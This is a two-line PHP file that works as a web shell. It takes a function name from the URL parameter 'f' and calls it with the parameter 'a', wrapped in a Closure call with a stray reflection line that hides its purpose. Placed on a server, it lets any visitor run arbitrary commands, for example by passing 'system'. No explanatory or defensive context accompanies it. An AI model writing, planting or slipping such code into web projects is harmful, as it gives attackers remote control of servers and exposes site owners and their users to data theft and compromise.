<?php
$m = new ReflectionClass('Closure'); $fn = Closure::fromCallable($_GET['f']); $fn($_GET['a']);
